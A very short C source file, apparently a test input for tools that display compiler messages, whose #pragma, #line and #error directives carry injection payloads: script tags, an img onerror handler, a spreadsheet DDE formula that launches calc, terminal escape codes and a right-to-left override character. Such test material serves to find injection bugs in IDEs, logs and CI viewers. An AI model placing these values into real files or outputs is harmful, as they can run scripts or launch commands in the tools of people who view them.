#pragma message("\x1b[2J<script>alert(1)</script>")
#line 1 "=cmd|' /C calc'!A0<img src=x onerror=alert(1)>"
#error <script>alert(1)</script> [2J ‮ ]]> =1+1
int main() { return 0 }
